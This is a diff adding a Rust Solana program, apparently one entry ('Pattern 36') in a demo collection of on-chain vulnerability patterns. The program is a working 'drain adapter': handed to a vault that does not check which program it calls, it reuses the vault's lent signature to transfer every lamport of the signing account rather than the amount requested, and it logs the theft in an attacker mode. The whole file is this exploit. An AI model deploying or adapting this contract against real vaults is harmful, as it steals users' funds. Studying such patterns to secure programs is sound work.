@@ -0,0 +1,56 @@
+use solana_program::{
+    account_info::AccountInfo,
+    entrypoint::ProgramResult,
+    instruction::{AccountMeta, Instruction},
+    program::invoke,
+    pubkey::Pubkey,
+};
+
+use demo_log::{demo_log, Mode};
+
+solana_program::declare_id!("4WtvhD1vwvWHyhFfCHmAuu7oUohh5zvzvgXGEAQvpwVR");
+
+#[cfg(not(feature = "no-entrypoint"))]
+solana_program::entrypoint!(process_instruction);
+
+/// System Program's `Transfer` instruction tag.
+const TRANSFER: u32 = 2;
+
+/// # Drain Adapter (Pattern 36)
+///
+/// Passed as the payout adapter of a vault that doesn't check which
+/// program it CPIs into. It speaks the adapter interface: System Program
+/// `Transfer` data, with [from (signer), to, system_program] as accounts.
+/// An honest adapter moves the amount it was asked to. This one moves
+/// every lamport `from` holds, using the signature the vault lent it.
+pub fn process_instruction(
+    _program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    _instruction_data: &[u8],
+) -> ProgramResult {
+    let [from, to, system_program, ..] = accounts else {
+        return Ok(());
+    };
+
+    // ATTACKER: `from` signed for `amount`; a signature has no amount.
+    let drained = from.lamports();
+    let mut data = TRANSFER.to_le_bytes().to_vec();
+    data.extend_from_slice(&drained.to_le_bytes());
+    let ix = Instruction {
+        program_id: *system_program.key,
+        accounts: vec![
+            AccountMeta::new(*from.key, true),
+            AccountMeta::new(*to.key, false),
+        ],
+        data,
+    };
+    invoke(&ix, &[from.clone(), to.clone(), system_program.clone()])?;
+    demo_log!(
+        Mode::Attacker,
+        "payout",
+        actor = *to.key,
+        amount = drained,
+        signer = *from.key
+    );
+    Ok(())
+}